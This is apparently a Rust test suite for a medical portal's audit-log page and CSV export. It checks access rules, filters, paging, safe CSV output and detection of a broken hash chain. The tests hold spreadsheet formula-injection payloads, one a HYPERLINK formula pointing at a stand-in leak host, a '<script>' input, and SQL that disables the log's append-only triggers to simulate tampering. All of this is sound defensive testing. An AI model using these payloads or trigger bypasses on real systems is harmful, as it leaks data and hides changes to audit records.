//! The audit log viewer and CSV export: who may read it, filters, paging, the chain banner,
//! and a CSV that is RFC 4180 and safe to open in a spreadsheet.

use chrono::{NaiveDate, NaiveDateTime};
use diesel::prelude::*;
use medport::audit::{self, Actor, Event, Outcome};
use medport::db::schema::audit_events;
use medport::db::{Backend as DbBackend, DbConnection};
use serde_json::json;

use crate::both_backends;
use crate::helpers::{Backend, TestApp, location};

const PW: &str = "correct horse battery staple";

/// (id, actor, action, outcome) of each event row on the page, in page order.
fn rows(html: &str) -> Vec<(i64, String, String, String)> {
    let re = regex::Regex::new(
        r#"(?s)<tr id="event-(\d+)">\s*<td><time datetime="[^"]+" title="[^"]+ UTC" data-local>[^<]*</time></td>\s*<td>([^<]*)(?:<br>.*?)?</td>\s*<td><code>([^<]*)</code></td>\s*<td><span class="badge [^"]*">([^<]*)</span>"#,
    )
    .unwrap();
    re.captures_iter(html)
        .map(|c| {
            (
                c[1].parse().unwrap(),
                c[2].to_string(),
                c[3].to_string(),
                c[4].to_string(),
            )
        })
        .collect()
}

async fn page(app: &TestApp, query: &str) -> (u16, String) {
    app.page(&format!("/admin/audit{query}")).await
}

fn record(app: &TestApp, events: &[Event]) {
    let mut conn = app.db.conn().unwrap();
    medport::db::write_tx(&mut conn, |conn| {
        for e in events {
            audit::record(conn, e)?;
        }
        Ok::<_, medport::error::AppError>(())
    })
    .unwrap();
}

/// An event at a chosen time, inserted directly (the chain does not matter here).
fn insert_at(app: &TestApp, at: NaiveDateTime, action: &str) {
    let mut conn = app.db.conn().unwrap();
    diesel::insert_into(audit_events::table)
        .values((
            audit_events::occurred_at.eq(at),
            audit_events::actor_label.eq("dated@example.org"),
            audit_events::action.eq(action),
            audit_events::outcome.eq("success"),
            audit_events::details.eq("{}"),
            audit_events::prev_hash.eq("x"),
            audit_events::hash.eq(uuid::Uuid::now_v7().to_string()),
        ))
        .execute(&mut *conn)
        .unwrap();
}

fn at(day: &str, time: &str) -> NaiveDateTime {
    NaiveDate::parse_from_str(day, "%Y-%m-%d")
        .unwrap()
        .and_time(chrono::NaiveTime::parse_from_str(time, "%H:%M:%S%.f").unwrap())
}

fn count_where_action(app: &TestApp, name: &str) -> usize {
    app.audit_actions().iter().filter(|a| a.0 == name).count()
}

async fn sign_in_and_out_events_appear_for_an_auditor(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    app.create_user("clin@example.org", "uploader", PW);
    let (browser, _) = app.new_browser();
    assert_eq!(
        app.login_with(&browser, "clin@example.org", "not the password")
            .await
            .status(),
        401
    );
    assert_eq!(
        app.login_with(&browser, "clin@example.org", PW)
            .await
            .status(),
        303
    );
    let token = app.session_csrf(&browser).await;
    let res = browser
        .post(app.url("/logout"))
        .form(&[("csrf_token", token.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);

    app.sign_in_as("auditor").await;
    let (status, html) = page(&app, "").await;
    assert_eq!(status, 200);
    let events = rows(&html);
    let clin: Vec<_> = events
        .iter()
        .filter(|e| e.1 == "clin@example.org")
        .map(|e| (e.2.as_str(), e.3.as_str()))
        .collect();
    assert_eq!(
        clin,
        [
            ("logout", "success"),
            ("login", "success"),
            ("login", "failure")
        ],
        "newest first"
    );
    assert!(
        events.windows(2).all(|w| w[0].0 > w[1].0),
        "ordered newest first"
    );
    assert!(html.contains("Audit chain intact"), "{html}");
    assert_eq!(html.matches("<h1").count(), 1);

    // A TOTP-enrolled administrator may read it too.
    assert_eq!(app.post_form("/logout", &[]).await.status(), 303);
    app.sign_in_as("admin").await;
    assert_eq!(page(&app, "").await.0, 200);
}

async fn filters_narrow_the_log(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let alice = Actor::user("0192f3a4-aaaa-7d8e-9fa0-b1c2d3e4f506", "alice@example.org");
    let bob = Actor::user("0192f3a4-bbbb-7d8e-9fa0-b1c2d3e4f506", "bob@example.org");
    record(
        &app,
        &[
            Event::new(alice.clone(), "login", Outcome::Success),
            Event::new(alice, "login.totp", Outcome::Failure),
            Event::new(bob, "login", Outcome::Denied),
            Event::new(Actor::anonymous(), "login", Outcome::Failure),
        ],
    );
    insert_at(&app, at("2025-03-10", "00:00:00"), "test.dated");
    insert_at(&app, at("2025-03-10", "23:59:59.999999"), "test.dated");
    insert_at(&app, at("2025-03-11", "00:00:00"), "test.dated");
    insert_at(&app, at("2025-03-12", "12:00:00"), "test.dated");
    app.sign_in_as("auditor").await;

    let (status, html) = page(&app, "?action=login").await;
    assert_eq!(status, 200);
    let found = rows(&html);
    assert_eq!(found.len(), count_where_action(&app, "login"));
    assert!(found.iter().all(|r| r.2 == "login"), "exact: {found:?}");
    assert!(
        html.contains(r#"<option value="login.totp">"#),
        "actions offered"
    );
    assert!(html.contains(r#"<option value="login" selected>"#));

    let found = rows(&page(&app, "?outcome=denied").await.1);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].1, "bob@example.org");

    let found = rows(&page(&app, "?user=ALICE%40").await.1);
    let actions: Vec<&str> = found.iter().map(|r| r.2.as_str()).collect();
    assert_eq!(actions, ["login.totp", "login"]);
    let found = rows(&page(&app, "?user=bbbb-7d8e").await.1);
    assert_eq!(found.len(), 1, "by user id");
    assert_eq!(found[0].1, "bob@example.org");
    assert!(
        rows(&page(&app, "?user=%25").await.1).is_empty(),
        "% is literal"
    );
    let found = rows(&page(&app, "?user=alice&outcome=failure").await.1);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].2, "login.totp");

    // Dates are UTC days, both ends inclusive.
    for (dates, expected) in [
        ("from=2025-03-10&to=2025-03-10", 2),
        ("from=2025-03-11", 2),
        ("to=2025-03-11", 3),
        ("from=2025-03-11&to=2025-03-11", 1),
        ("from=2025-03-13", 0),
    ] {
        let found = rows(&page(&app, &format!("?action=test.dated&{dates}")).await.1);
        assert_eq!(found.len(), expected, "{dates}");
    }

    for (query, message) in [
        (
            "?outcome=maybe",
            "Outcome must be success, failure or denied.",
        ),
        (
            "?from=2025-02-30",
            "From date must be a date written YYYY-MM-DD",
        ),
        ("?to=10%2F03%2F2025", "To date must be a date written"),
        (
            "?from=2025-03-12&to=2025-03-11",
            "To date must not be before the",
        ),
        ("?page=0", "Page must be a whole number"),
        ("?action=%3Cscript%3E", "Action is not an action name."),
    ] {
        let (status, html) = page(&app, query).await;
        assert_eq!(status, 400, "{query}");
        assert!(html.contains(message), "{query}: {html}");
        assert!(rows(&html).is_empty());
        assert!(!html.contains("<script>"), "echoed values are escaped");
    }
}

async fn pagination_keeps_the_filters(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let events: Vec<Event> = (0..120)
        .map(|i| {
            Event::new(Actor::system(), "bulk.test", Outcome::Success).details(json!({ "n": i }))
        })
        .collect();
    record(&app, &events);
    app.sign_in_as("auditor").await;

    let (_, first) = page(&app, "?action=bulk.test").await;
    let p1 = rows(&first);
    assert_eq!(p1.len(), 50);
    assert!(first.contains("120 matching"));
    // `&` is escaped in the attribute, as HTML requires.
    assert!(
        first.contains(r#"href="/admin/audit?action=bulk.test&#38;page=2""#),
        "{first}"
    );
    assert!(!first.contains(r#"rel="prev""#));

    let (_, second) = page(&app, "?action=bulk.test&page=2").await;
    let p2 = rows(&second);
    assert_eq!(p2.len(), 50);
    assert!(second.contains(r#"rel="prev""#) && second.contains(r#"rel="next""#));
    assert!(second.contains("page=3") && second.contains("page=1"));

    let (_, third) = page(&app, "?action=bulk.test&page=3").await;
    let p3 = rows(&third);
    assert_eq!(p3.len(), 20);
    assert!(!third.contains(r#"rel="next""#));

    let ids: Vec<i64> = [p1, p2, p3].concat().iter().map(|r| r.0).collect();
    assert!(
        ids.windows(2).all(|w| w[0] > w[1]),
        "newest first across pages"
    );
    assert_eq!(ids.len(), 120);
    assert!(rows(&page(&app, "?action=bulk.test&page=4").await.1).is_empty());
}

async fn uploaders_cannot_read_or_export(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (anon, _) = app.new_browser();
    let res = anon.get(app.url("/admin/audit")).send().await.unwrap();
    assert_eq!(res.status(), 303);
    assert!(location(&res).starts_with("/login"));

    app.sign_in_as("uploader").await;
    for path in [
        "/admin/audit",
        "/admin/audit.csv",
        "/admin/audit.csv?action=login",
    ] {
        let res = app.get_html(path).await;
        assert_eq!(res.status(), 403, "{path}");
        let body = res.text().await.unwrap();
        assert!(!body.contains("login.password") && !body.contains("event-"));
    }
    assert_eq!(count_where_action(&app, "access.denied"), 3);
    assert_eq!(count_where_action(&app, "audit.export"), 0);
}

/// A strict RFC 4180 reader: CRLF record ends, quotes only around whole fields.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut cell = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    let mut was_quoted = false;
    while let Some(c) = chars.next() {
        if quoted {
            if c == '"' {
                if chars.peek() == Some(&'"') {
                    chars.next();
                    cell.push('"');
                } else {
                    quoted = false;
                }
            } else {
                cell.push(c);
            }
            continue;
        }
        match c {
            '"' => {
                assert!(cell.is_empty() && !was_quoted, "stray quote in {cell:?}");
                quoted = true;
                was_quoted = true;
            }
            ',' => {
                record.push(std::mem::take(&mut cell));
                was_quoted = false;
            }
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "bare CR outside quotes");
                record.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut record));
                was_quoted = false;
            }
            '\n' => panic!("bare LF outside quotes"),
            other => {
                assert!(!was_quoted, "text after a closing quote");
                cell.push(other);
            }
        }
    }
    assert!(
        !quoted && cell.is_empty() && record.is_empty(),
        "ends with CRLF"
    );
    records
}

async fn csv_export_is_rfc4180_and_injection_safe(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let dangerous = [
        "=HYPERLINK(\"http://evil.example/?leak\",\"click me\")",
        "+1",
        "-1",
        "@SUM(1)",
        "\tTAB",
        "\rCR",
    ];
    let mut events: Vec<Event> = dangerous
        .iter()
        .map(|label| {
            Event::new(
                Actor {
                    user_id: None,
                    label: (*label).to_string(),
                },
                "csv.test",
                Outcome::Denied,
            )
            .target("note", "-2")
        })
        .collect();
    let awkward = "comma, \"quoted\"\r\nand a new line";
    events.push(
        Event::new(
            Actor {
                user_id: None,
                label: awkward.into(),
            },
            "csv.test",
            Outcome::Success,
        )
        .details(json!({ "note": "a,b" })),
    );
    record(&app, &events);
    // A failed sign-in typed as a formula.
    let (browser, _) = app.new_browser();
    let formula_email = "=HYPERLINK(\"http://evil.example\")";
    assert_eq!(
        app.login_with(&browser, formula_email, "whatever password")
            .await
            .status(),
        401
    );
    app.sign_in_as("auditor").await;
    let before = app.audit_actions().len();

    let res = app.get("/admin/audit.csv").await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "text/csv; charset=utf-8");
    let disposition = res.headers()["content-disposition"].to_str().unwrap();
    assert!(
        regex::Regex::new(r#"^attachment; filename="medport-audit-\d{8}-\d{6}\.csv"$"#)
            .unwrap()
            .is_match(disposition),
        "{disposition}"
    );
    let text = res.text().await.unwrap();
    let records = parse_csv(&text);
    assert_eq!(
        records[0],
        [
            "id",
            "occurred_at_utc",
            "actor_user_id",
            "actor",
            "action",
            "outcome",
            "target_type",
            "target_id",
            "ip",
            "request_id",
            "details",
            "prev_hash",
            "hash"
        ]
    );
    assert_eq!(records.len() - 1, before, "every event before the export");
    assert!(records[1..].iter().all(|r| r.len() == 13));
    let test_rows: Vec<&Vec<String>> = records.iter().filter(|r| r[4] == "csv.test").collect();
    assert_eq!(test_rows.len(), dangerous.len() + 1);
    for (row, label) in test_rows.iter().zip(dangerous) {
        assert_eq!(row[3], format!("'{label}"), "actor cell neutralised");
        assert_eq!(row[7], "'-2", "target cell neutralised");
    }
    let plain = test_rows[dangerous.len()];
    assert_eq!(plain[3], awkward, "quotes, commas and line breaks survive");
    assert_eq!(plain[10], r#"{"note":"a,b"}"#);
    let failed = records
        .iter()
        .find(|r| r[4] == "login" && r[10].contains("evil.example"))
        .expect("failed sign-in exported");
    assert!(failed[10].starts_with('{'));
    for row in &records[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "unsafe cell {cell:?}"
            );
        }
    }

    let exports: Vec<_> = app
        .audit_actions()
        .into_iter()
        .filter(|a| a.0 == "audit.export")
        .collect();
    assert_eq!(exports.len(), 1);
    let details: serde_json::Value = serde_json::from_str(&exports[0].2).unwrap();
    assert_eq!(details["rows"], before);
    assert_eq!(details["filters"], json!({}));

    // The same filters as the page.
    let res = app
        .get("/admin/audit.csv?action=csv.test&outcome=denied")
        .await;
    let records = parse_csv(&res.text().await.unwrap());
    assert_eq!(records.len() - 1, dangerous.len());
    let exports: Vec<_> = app
        .audit_actions()
        .into_iter()
        .filter(|a| a.0 == "audit.export")
        .collect();
    let details: serde_json::Value = serde_json::from_str(&exports[1].2).unwrap();
    assert_eq!(details["rows"], dangerous.len());
    assert_eq!(
        details["filters"],
        json!({"action": "csv.test", "outcome": "denied"})
    );

    let res = app.get("/admin/audit.csv?from=yesterday").await;
    assert_eq!(res.status(), 400);
    assert!(
        res.text()
            .await
            .unwrap()
            .contains("From date must be a date written YYYY-MM-DD")
    );
}

async fn large_exports_stream_every_row(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let events: Vec<Event> = (0..2100)
        .map(|i| {
            Event::new(Actor::system(), "bulk.export", Outcome::Success).details(json!({ "n": i }))
        })
        .collect();
    record(&app, &events);
    app.sign_in_as("auditor").await;
    let text = app
        .get("/admin/audit.csv?action=bulk.export")
        .await
        .text()
        .await
        .unwrap();
    let records = parse_csv(&text);
    assert_eq!(records.len(), 2101);
    let ns: Vec<String> = records[1..].iter().map(|r| r[10].clone()).collect();
    let expected: Vec<String> = (0..2100).map(|i| format!(r#"{{"n":{i}}}"#)).collect();
    assert_eq!(ns, expected, "every row once, oldest first");
}

/// Bypasses the append-only triggers the way someone with direct database access could.
fn tamper(conn: &mut DbConnection, backend: DbBackend, sql: &str) {
    match backend {
        DbBackend::Sqlite => {
            diesel::sql_query("DROP TRIGGER audit_events_no_update")
                .execute(conn)
                .unwrap();
        }
        DbBackend::Postgres => {
            diesel::sql_query("ALTER TABLE audit_events DISABLE TRIGGER USER")
                .execute(conn)
                .unwrap();
        }
    }
    diesel::sql_query(sql).execute(conn).unwrap();
}

async fn chain_banner_turns_red_after_tampering(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    record(
        &app,
        &[
            Event::new(Actor::system(), "one", Outcome::Success),
            Event::new(Actor::system(), "two", Outcome::Success),
            Event::new(Actor::system(), "three", Outcome::Success),
        ],
    );
    app.sign_in_as("auditor").await;
    let total = app.audit_actions().len();
    let (_, html) = page(&app, "").await;
    assert!(
        html.contains(&format!("Audit chain intact, {total} events verified")),
        "{html}"
    );
    let mut conn = app.db.conn().unwrap();
    let two: i64 = audit_events::table
        .filter(audit_events::action.eq("two"))
        .select(audit_events::id)
        .first(&mut *conn)
        .unwrap();
    tamper(
        &mut conn,
        app.db.backend(),
        &format!("UPDATE audit_events SET actor_label = 'mallory' WHERE id = {two}"),
    );
    drop(conn);
    let (status, html) = page(&app, "").await;
    assert_eq!(status, 200);
    assert!(
        html.contains(&format!("Audit chain broken at event {two}")),
        "{html}"
    );
    assert!(!html.contains("Audit chain intact"));
}

both_backends!(
    sign_in_and_out_events_appear_for_an_auditor,
    filters_narrow_the_log,
    pagination_keeps_the_filters,
    uploaders_cannot_read_or_export,
    csv_export_is_rfc4180_and_injection_safe,
    large_exports_stream_every_row,
    chain_banner_turns_red_after_tampering,
);
